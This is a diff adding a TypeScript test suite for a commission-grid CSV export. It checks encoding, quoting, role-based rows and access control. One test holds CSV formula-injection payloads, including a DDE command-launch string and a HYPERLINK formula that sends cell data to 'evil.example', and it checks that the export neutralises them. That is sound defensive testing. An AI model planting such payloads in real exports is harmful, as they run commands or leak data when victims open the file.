@@ -1,0 +1,120 @@
+// GET /commissions.csv: the grid as a file that a spreadsheet reads as text and numbers, never as formulas.
+import test from 'ava';
+import { parse } from 'csv-parse/sync';
+import { deals } from '../../db/sales/deals.ts';
+import { eq } from '../../db/store/drizzle.ts';
+import { ask, type Client, type Part } from '../support/cast.ts';
+import { failure, noPermission, openDesk } from '../support/sales.ts';
+import { createWorld } from '../support/world.ts';
+
+const header =
+    'id,customer_name,contact_name,revenue,commission,earnings,eff_rate,closed_month,closed_at,status';
+
+async function fileOf({ get }: Client) {
+    const { statusCode, headers, body } = await get('/commissions.csv');
+    return { statusCode, headers, text: String(body) };
+}
+
+test('the file is UTF-8 with a byte order mark, lines that end as RFC 4180 says, and a name of its own', async (t) => {
+    const desk = await openDesk(t);
+    const { id } = await desk.dealIn('ss_closed', { customer_name: 'Café Zürich' });
+    const { statusCode, headers, text } = await fileOf(desk.rep);
+    t.is(statusCode, 200);
+    t.is(headers['content-type'], 'text/csv; charset=utf-8');
+    t.is(headers['content-disposition'], 'attachment; filename="commissions.csv"');
+    t.is(headers['cache-control'], 'no-store');
+    const row = `${id},Café Zürich,Sam Ortiz,12500.5,1375.25,1187.5,9.5,2026-01,"Jan 15, 2026, 12:00 PM",ss_closed`;
+    t.is(text, `\uFEFF${header}\r\n${row}\r\n`);
+});
+
+test('row 59: no cell begins a formula, in any of the ways that spreadsheets know', async (t) => {
+    const desk = await openDesk(t);
+    const formulas = [
+        "=cmd|' /C calc'!A0",
+        '+1+1',
+        '-2+3',
+        '@SUM(A1:A9)',
+        '=HYPERLINK("https://evil.example?"&A1,"click")',
+        '＝1+1',
+        '＋1',
+        '－1',
+        '＠SUM(1)'
+    ];
+    for (const formula of formulas)
+        await desk.dealIn('ss_closed', { customer_name: formula, contact_name: formula });
+    const { text } = await fileOf(desk.rep);
+    const rows: Record<string, string>[] = parse(text, { columns: true, bom: true });
+    t.deepEqual(
+        rows.map(({ customer_name, contact_name }) => [customer_name, contact_name]),
+        formulas.toReversed().map((formula) => [`'${formula}`, `'${formula}`])
+    );
+});
+
+test('negative earnings stay numbers: a spreadsheet can add them up', async (t) => {
+    const desk = await openDesk(t);
+    await desk.dealIn('ss_closed', { revenue: 100, commission: 0, margin_deduction: 12.5, referral_fee: 0 });
+    const { text } = await fileOf(desk.rep);
+    t.true(text.includes(',100,0,-12.5,-12.5,2026-01,'), text);
+});
+
+test('commas, quotes and line breaks inside a name leave it one cell of one row', async (t) => {
+    const desk = await openDesk(t);
+    const names = [
+        'Ortiz, Sam',
+        'The "Harbour"',
+        'one\r\ntwo',
+        'one\ntwo',
+        'one\rtwo',
+        'a;b\tc',
+        '"',
+        `",=1+1,"`
+    ];
+    for (const customerName of names) {
+        const { id } = await desk.dealIn('ss_closed');
+        // No route takes a line break there any more; the file keeps its rows all the same.
+        await desk.world.store.write((tx) => tx.update(deals).set({ customerName }).where(eq(deals.id, id)));
+    }
+    const { text } = await fileOf(desk.rep);
+    const rows: Record<string, string>[] = parse(text, {
+        columns: true,
+        bom: true,
+        record_delimiter: '\r\n'
+    });
+    t.deepEqual(
+        rows.map(({ customer_name }) => customer_name),
+        names.toReversed()
+    );
+    t.deepEqual([...new Set(rows.map(({ status }) => status))], ['ss_closed']);
+});
+
+test('the file holds the very rows of the grid: the own ones for a rep, all for an administrator', async (t) => {
+    const desk = await openDesk(t);
+    await desk.dealIn('ss_paid');
+    await desk.dealIn('ss_closed', {}, desk.other);
+    await desk.dealIn('ss_customer_approved');
+    for (const client of [desk.rep, desk.other, desk.boss, desk.admin]) {
+        const { deals } = (await client.action('svc_get_commissions')).body.data;
+        const rows: Record<string, string>[] = parse((await fileOf(client)).text, {
+            columns: true,
+            bom: true
+        });
+        const asText = (deal: object) =>
+            Object.fromEntries(Object.entries(deal).map(([name, value]) => [name, String(value)]));
+        t.deepEqual(rows, deals.map(asText));
+    }
+});
+
+test('without deals the file is its header alone', async (t) => {
+    const { text } = await fileOf(await (await createWorld(t)).as('salesRep'));
+    t.is(text, `\uFEFF${header}\r\n`);
+});
+
+test('row 37: the file is for whoever sees the grid', async (t) => {
+    const world = await createWorld(t);
+    for (const part of ['author', 'councilAdmin', 'powerUser', 'support'] satisfies Part[]) {
+        const { statusCode, body } = await (await world.as(part)).get('/commissions.csv');
+        t.deepEqual([statusCode, body], [403, noPermission], part);
+    }
+    const { statusCode, body } = await ask(world.server, { url: '/rest/svc/v1/commissions.csv' });
+    t.deepEqual([statusCode, body], [401, failure('Please log in.')]);
+});
